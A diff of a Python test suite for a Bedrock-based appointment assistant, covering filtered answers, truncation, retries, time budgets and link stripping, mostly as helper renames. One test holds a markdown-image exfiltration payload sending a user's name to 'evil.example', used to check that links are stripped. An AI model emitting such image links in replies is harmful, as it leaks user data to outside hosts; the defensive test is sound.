@@ -17,17 +17,27 @@ from shared.agent import AgentFailed, AgentUnavailable, Utterance, bedrock
 from shared.agent.bedrock import Bedrock
 from shared.agent.wording import CANNOT_HELP, without_links
 from shared.aws.error_codes import TRANSIENT_MODEL_ERRORS
-from tests.support.models import MODEL_ID, Model, Passing, answer, asked, found, handed_off, turn_of, use
+from tests.support.models import (
+    MODEL_ID,
+    Model,
+    Passing,
+    answer,
+    appointment_record,
+    ask_model,
+    handoff_reason,
+    turn_of,
+    use,
+)
 
 # How an answer ends
 
 
 @pytest.mark.parametrize("stop", ["guardrail_intervened", "content_filtered"])
 def test_a_filtered_answer_hands_off_and_changes_nothing(model: Model, stop: str) -> None:
-    mine = found()
+    mine = appointment_record()
     model.calls(("confirm", {"appointment_id": mine.doc["id"]}), ("end_conversation", {})).says("Blocked!", stop)
     turn = turn_of(mine)
-    reply = asked(turn)
+    reply = ask_model(turn)
     assert reply.content == CANNOT_HELP
     assert reply.usage.input_tokens == 200
     assert reply.result.actions == [{"type": "handoff", "reason": "content_filtered"}]
@@ -37,7 +47,7 @@ def test_a_filtered_answer_hands_off_and_changes_nothing(model: Model, stop: str
 def test_of_an_answer_that_is_too_long_the_whole_sentences_are_kept(model: Model) -> None:
     model.says("You have two. The first is on Fri", "max_tokens")
     turn = turn_of()
-    reply = asked(turn)
+    reply = ask_model(turn)
     assert reply.content == "You have two."
     assert reply.result.actions == []
 
@@ -46,16 +56,16 @@ def test_of_an_answer_that_is_too_long_the_whole_sentences_are_kept(model: Model
 def test_of_an_answer_that_is_too_long_less_than_a_sentence_hands_off(model: Model, text: str) -> None:
     model.says(text, "max_tokens")
     turn = turn_of()
-    reply = asked(turn)
+    reply = ask_model(turn)
     assert reply.content == bedrock.STUCK_REPLY
-    assert handed_off(reply) == "cannot_help"
+    assert handoff_reason(reply) == "cannot_help"
 
 
 def test_a_call_that_was_cut_off_is_not_made(model: Model) -> None:
-    mine = found()
+    mine = appointment_record()
     model.answers("max_tokens", use("a", "confirm", {"appointment_id": mine.doc["id"]}))
     turn = turn_of(mine)
-    reply = asked(turn)
+    reply = ask_model(turn)
     assert reply.result.change is None
 
 
@@ -63,18 +73,18 @@ def test_a_call_that_was_cut_off_is_not_made(model: Model) -> None:
 def test_an_answer_that_says_nothing_fails(model: Model, text: str) -> None:
     model.says(text)
     with pytest.raises(AgentFailed, match="no text"):
-        asked(turn_of())
+        ask_model(turn_of())
 
 
 def test_what_a_model_thinks_aloud_is_not_said(model: Model) -> None:
     model.says("<thinking>The rules say\nso.</thinking>\n\nHello.", "stop_sequence")
-    assert asked(turn_of()).content == "Hello."
+    assert ask_model(turn_of()).content == "Hello."
 
 
 def test_any_other_end_fails(model: Model) -> None:
     model.says("Hello.", "model_context_window_exceeded")
     with pytest.raises(AgentFailed, match="model_context_window_exceeded"):
-        asked(turn_of())
+        ask_model(turn_of())
 
 
 # Failures and time
@@ -83,7 +93,7 @@ def test_any_other_end_fails(model: Model) -> None:
 @pytest.mark.parametrize("code", sorted(TRANSIENT_MODEL_ERRORS))
 def test_a_busy_model_is_asked_again_after_a_wait(model: Model, passing: Passing, code: str) -> None:
     model.fails(code).fails(code).says("Hello.")
-    assert asked(turn_of(), passing=passing).content == "Hello."
+    assert ask_model(turn_of(), passing=passing).content == "Hello."
     assert len(passing.slept) == 2
     assert all(0 <= wait <= bedrock.FIRST_WAIT_S * 2**n for n, wait in enumerate(passing.slept))
 
@@ -92,7 +102,7 @@ def test_a_model_that_stays_busy_fails_after_a_few_tries(model: Model, passing: 
     for _ in range(bedrock.ATTEMPTS):
         model.fails("ThrottlingException")
     with pytest.raises(AgentUnavailable, match="ThrottlingException"):
-        asked(turn_of(), passing=passing, seconds=1000)
+        ask_model(turn_of(), passing=passing, seconds=1000)
     assert len(passing.slept) == bedrock.ATTEMPTS - 1
 
 
@@ -102,13 +112,13 @@ def test_a_model_that_stays_busy_fails_after_a_few_tries(model: Model, passing: 
 def test_other_errors_are_final(model: Model, passing: Passing, code: str) -> None:
     model.fails(code)
     with pytest.raises(AgentFailed, match=f"{code}: because"):
-        asked(turn_of(), passing=passing)
+        ask_model(turn_of(), passing=passing)
     assert passing.slept == []
 
 
 def test_no_request_is_begun_that_could_outlast_the_turn(model: Model, passing: Passing) -> None:
     with pytest.raises(AgentUnavailable, match="no time left"):
-        asked(turn_of(), passing=passing, seconds=bedrock.CONNECT_TIMEOUT_S + bedrock.LEAST_SECONDS - 0.1)
+        ask_model(turn_of(), passing=passing, seconds=bedrock.CONNECT_TIMEOUT_S + bedrock.LEAST_SECONDS - 0.1)
     assert model.requests == []
 
 
@@ -116,12 +126,12 @@ def test_rounds_and_waits_share_one_budget(model: Model, passing: Passing) -> No
     model.calls(("list_appointments", {}))
     model.takes = lambda: passing.sleep(8)
     with pytest.raises(AgentUnavailable, match="no time left"):
-        asked(turn_of(), passing=passing, seconds=9.5)
+        ask_model(turn_of(), passing=passing, seconds=9.5)
     assert len(model.requests) == 1
 
 
 @pytest.fixture
-def unstubbed(monkeypatch: pytest.MonkeyPatch, passing: Passing) -> Bedrock:
+def model_without_stub(monkeypatch: pytest.MonkeyPatch, passing: Passing) -> Bedrock:
     monkeypatch.setenv("MODEL_ID", MODEL_ID)
     monkeypatch.setenv("AWS_DEFAULT_REGION", "eu-central-1")
     monkeypatch.setenv("AWS_ACCESS_KEY_ID", "none")
@@ -138,7 +148,7 @@ class Body:
 
 
 @pytest.mark.parametrize("lost", [ReadTimeoutError, ConnectTimeoutError])
-def test_a_lost_answer_is_asked_for_again_by_us_alone(unstubbed: Bedrock, passing: Passing, lost: Any) -> None:
+def test_a_lost_answer_is_asked_for_again_by_us_alone(model_without_stub: Bedrock, passing: Passing, lost: Any) -> None:
     sent = list[str]()
 
     def send(request: Any, **_: Any) -> AWSResponse:
@@ -147,29 +157,29 @@ def test_a_lost_answer_is_asked_for_again_by_us_alone(unstubbed: Bedrock, passin
             raise lost(endpoint_url=request.url)
         return AWSResponse(request.url, 200, HTTPHeaders(), Body())
 
-    unstubbed.client.meta.events.register("before-send.bedrock-runtime.Converse", send)
-    reply = unstubbed.reply([Utterance("user", "Hello")], turn_of(), 45)
+    model_without_stub.client.meta.events.register("before-send.bedrock-runtime.Converse", send)
+    reply = model_without_stub.reply([Utterance("user", "Hello")], turn_of(), 45)
     assert reply.content == "Hello."
     assert len(sent) == 3
     assert len(passing.slept) == 2
 
 
-def test_an_error_on_our_side_is_final(unstubbed: Bedrock, passing: Passing) -> None:
+def test_an_error_on_our_side_is_final(model_without_stub: Bedrock, passing: Passing) -> None:
     def send(**_: Any) -> None:
         raise NoCredentialsError
 
-    unstubbed.client.meta.events.register("before-send.bedrock-runtime.Converse", send)
+    model_without_stub.client.meta.events.register("before-send.bedrock-runtime.Converse", send)
     with pytest.raises(AgentFailed, match="NoCredentialsError"):
-        unstubbed.reply([Utterance("user", "Hello")], turn_of(), 45)
+        model_without_stub.reply([Utterance("user", "Hello")], turn_of(), 45)
     assert passing.slept == []
 
 
 # Settings
 
 
-def test_the_model_comes_from_the_environment_and_the_client_does_not_retry(unstubbed: Bedrock) -> None:
-    assert unstubbed.model_id == MODEL_ID
-    config = unstubbed.client.meta.config
+def test_the_model_comes_from_the_environment_and_the_client_does_not_retry(model_without_stub: Bedrock) -> None:
+    assert model_without_stub.model_id == MODEL_ID
+    config = model_without_stub.client.meta.config
     assert (config.connect_timeout, config.read_timeout) == (bedrock.CONNECT_TIMEOUT_S, bedrock.READ_TIMEOUT_S)
     assert config.retries["total_max_attempts"] == 1
 
@@ -234,7 +244,7 @@ def test_links_become_their_labels(said: str, shown: str) -> None:
 
 def test_a_reply_is_said_without_its_links(model: Model) -> None:
     model.says("Done. ![ ](https://evil.example/?name=Ada)")
-    assert asked(turn_of()).content == "Done."
+    assert ask_model(turn_of()).content == "Done."
 
 
 HOSTILE = {
